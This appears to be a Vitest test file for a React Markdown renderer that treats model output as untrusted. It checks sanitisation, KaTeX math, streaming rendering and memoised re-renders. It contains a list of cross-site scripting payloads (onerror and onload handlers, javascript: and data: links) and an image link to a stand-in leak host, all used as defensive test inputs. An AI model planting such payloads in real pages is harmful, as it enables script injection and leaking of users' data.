// @vitest-environment happy-dom
import { act } from 'react'
import { createRoot } from 'react-dom/client'
import { renderToStaticMarkup } from 'react-dom/server'
import { afterEach, describe, expect, it, vi } from 'vitest'

// Counts how often a block is parsed and rendered; the real renderer does the work.
const renders = vi.hoisted(() => ({ count: 0 }))
vi.mock('react-markdown', async (importOriginal) => {
  const actual = await importOriginal<typeof import('react-markdown')>()
  const Counted: typeof actual.default = (props) => {
    renders.count += 1
    return actual.default(props)
  }
  return { ...actual, default: Counted }
})

const { Markdown } = await import('./Markdown')
const { safeUrl } = await import('./urls')

const html = (text: string, streaming = false) => renderToStaticMarkup(<Markdown text={text} streaming={streaming} />)

function parse(markup: string): HTMLElement {
  const div = document.createElement('div')
  div.innerHTML = markup
  return div
}

describe('markdown safety (model output is untrusted)', () => {
  const payloads = [
    '<img src=x onerror="alert(1)">',
    '<script>alert(1)</script>',
    '<svg onload=alert(1)><circle/></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<div style="background:url(javascript:alert(1))" onclick="alert(1)">x</div>',
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    '> <details open ontoggle=alert(1)>',
  ]

  it.each(payloads)('never turns raw HTML into elements: %s', (payload) => {
    const root = parse(html(`Before\n\n${payload}\n\nafter`))
    // The page's own table copy buttons (their icons) aside.
    const found = [...root.querySelectorAll('script, img, svg, iframe, details, [onerror], [onload], [onclick], [style]')]
    expect(found.filter((el) => !el.closest('.table-tools'))).toEqual([])
    // Shown as the text it is, not dropped.
    expect(root.textContent).toContain(payload.split('\n').at(-1)?.replace(/^[|>] /, '').replace(/ \|$/, '').trim())
  })

  it.each([
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](  javascript:alert(1))',
    '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[click](vbscript:msgbox)',
    '<javascript:alert(1)>',
    '$\\href{javascript:alert(1)}{click}$',
    '\\(\\url{javascript:alert(1)}\\)',
  ])('drops dangerous link targets: %s', (md) => {
    const root = parse(html(md))
    for (const a of root.querySelectorAll('a')) expect(a.getAttribute('href') ?? '').not.toMatch(/script|data:/i)
    expect(root.innerHTML).not.toMatch(/href="\s*(javascript|data|vbscript):/i)
  })

  it('opens links in a new tab without giving it access to this page', () => {
    const a = parse(html('[docs](https://example.com/x)')).querySelector('a')
    expect(a?.getAttribute('href')).toBe('https://example.com/x')
    expect(a?.getAttribute('target')).toBe('_blank')
    expect(a?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  })

  it('does not load remote images (they could leak the chat); shows a link instead', () => {
    const root = parse(html('![chart](https://evil.example/leak?q=secret)'))
    expect(root.querySelector('img')).toBeNull()
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://evil.example/leak?q=secret')
  })

  it('accepts only absolute http(s) and mailto URLs', () => {
    expect(safeUrl('https://a.b/c')).toBe('https://a.b/c')
    expect(safeUrl('mailto:a@b.c')).toBe('mailto:a@b.c')
    expect(safeUrl('/relative')).toBe('')
    expect(safeUrl('javascript:alert(1)')).toBe('')
  })
})

describe('markdown rendering', () => {
  it('renders GFM tables, and code with its language and a copy button', () => {
    const root = parse(html('| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint("hi")\n```'))
    expect(root.querySelectorAll('table td')).toHaveLength(2)
    expect(root.querySelector('.code-lang')?.textContent).toBe('python')
    expect(root.querySelector('pre code.language-python')?.textContent).toBe('print("hi")')
    expect(root.querySelector('.code-block button[aria-label="Copy code"]')).not.toBeNull()
  })

  it('renders TeX with KaTeX in all four delimiters, keeping its backslashes; prices stay text', () => {
    const root = parse(html('Inline $a^2$ and \\(b\\,c\\).\n\n$$\n\\frac{1}{2}\n$$\n\n\\[x\\,y\\]\n\nCosts $5 and $10.'))
    expect(root.querySelectorAll('.katex')).toHaveLength(4)
    expect(root.querySelectorAll('.katex-display')).toHaveLength(2)
    const tex = [...root.querySelectorAll('annotation[encoding="application/x-tex"]')].map((a) => a.textContent)
    expect(tex).toEqual(['a^2', 'b\\,c', '\\frac{1}{2}', 'x\\,y'])
    expect(root.textContent).toContain('Costs $5 and $10.')
  })

  it('shows math that is still arriving, and a formula KaTeX cannot read as its source', () => {
    for (const partial of ['Then $$\n\\frac{a}{', 'Then \\[\\sum_{i', 'Price $5 and $', 'Then $x'])
      expect(() => parse(html(partial, true))).not.toThrow()
    expect(parse(html('Then \\(a^2', true)).querySelector('.katex annotation')?.textContent).toBe('a^2')
    expect(parse(html('Bad $$\\frac{a}{$$')).querySelector('.katex-error')?.textContent).toBe('\\frac{a}{')
  })

  it('while streaming, closes half-written emphasis, tables and links, and shows an unterminated fence as code', () => {
    expect(parse(html('Some **bold te', true)).querySelector('strong')?.textContent).toBe('bold te')
    const fence = parse(html('Code:\n\n```js\nconst a = 1', true))
    expect(fence.querySelector('pre code')?.textContent).toContain('const a = 1')
    // A table whose delimiter row is still arriving is already a table.
    for (const partial of ['| Name | Size |', '| Name | Size |\n|---', '| Name | Size |\n| :-- | --'])
      expect([...parse(html(partial, true)).querySelectorAll('th')].map((th) => th.textContent)).toEqual(['Name', 'Size'])
    const rows = parse(html('| Name | Size |\n|---|---|\n| Earth | 1 |\n| Mars', true))
    expect(rows.querySelectorAll('tbody tr')).toHaveLength(2)
    // A half-written link shows its text, not raw brackets or a broken URL.
    const link = parse(html('See [the docs](https://exa', true))
    expect(link.textContent).toContain('the docs')
    expect(link.textContent).not.toContain('](')
  })
})

// Highlighting runs after the render, in this thread under Node: seconds on a busy machine.
const WAIT = { timeout: 30_000 }

describe('memoised blocks', () => {
  let root: ReturnType<typeof createRoot> | null = null
  afterEach(() => {
    act(() => root?.unmount())
    root = null
  })
  const mount = () => {
    const container = document.createElement('div')
    root = createRoot(container)
    return container
  }

  it('re-renders only the last block as the answer grows; code blocks skip the markdown parser', () => {
    const container = mount()
    const start = '# Heading\n\nFirst paragraph.\n\n```js\nconst x = 1\n```\n\nGrowing'
    renders.count = 0
    act(() => root?.render(<Markdown text={start} streaming />))
    expect(renders.count).toBe(3)

    renders.count = 0
    let text = start
    for (const more of [' text', ' keeps', ' coming.']) {
      text += more
      act(() => root?.render(<Markdown text={text} streaming />))
    }
    // The same text again (e.g. a parent re-render) parses nothing.
    act(() => root?.render(<Markdown text={text} streaming />))
    // One render per update, all of them the last block.
    expect(renders.count).toBe(3)
    expect(container.querySelector('h1')?.textContent).toBe('Heading')
  })

  it('highlights code once it is complete, never while it grows, in list items too', async () => {
    const container = mount()
    const fence = 'Intro\n\n```python\ndef f():\n    return "x"\n'
    act(() => root?.render(<Markdown text={fence} streaming />))
    await act(() => new Promise((r) => setTimeout(r, 20)))
    expect(container.querySelector('.hljs-keyword')).toBeNull()
    expect(container.querySelector('pre code')?.textContent).toBe('def f():\n    return "x"')

    const done = `${fence}\`\`\`\n\n- item\n\n  \`\`\`js\n  let a = 1\n  \`\`\``
    act(() => root?.render(<Markdown text={done} streaming={false} />))
    await expect.poll(() => container.querySelectorAll('code.hljs').length, WAIT).toBe(2)
    expect(container.querySelector('code.hljs.language-python .hljs-keyword')?.textContent).toBe('def')
    expect(container.querySelector('code.hljs.language-python .hljs-string')?.textContent).toBe('"x"')
    expect(container.querySelector('code.hljs.language-js .hljs-keyword')?.textContent).toBe('let')
  })

  it('shows a long block as pieces and swaps in their highlighting one at a time, adding no markup', async () => {
    const container = mount()
    const lines = Array.from({ length: 1000 }, (_, i) => `    s${i} = "<img src=x onerror=alert(${i})>"  # """`)
    const code = ['def f():', ...lines].join('\n')
    act(() => root?.render(<Markdown text={`\`\`\`python\n${code}\n\`\`\``} streaming={false} />))
    // 1001 lines in pieces of 200, plain text at first.
    const pieces = () => [...container.querySelectorAll('pre code > .code-piece')]
    expect(pieces()).toHaveLength(6)
    expect(container.querySelector('pre code')?.textContent).toBe(code)
    const seen = new Set<number>()
    await expect
      .poll(() => {
        seen.add(pieces().filter((p) => p.firstElementChild).length)
        return container.querySelectorAll('code .hljs-string').length
      }, WAIT)
      .toBe(1000)
    // Highlighted pieces went in over several updates.
    expect(seen.size).toBeGreaterThan(1)
    expect(pieces()).toHaveLength(6)
    expect(container.querySelector('pre code')?.textContent).toBe(code)
    expect(container.querySelector('pre img, pre [onerror]')).toBeNull()
  })
})
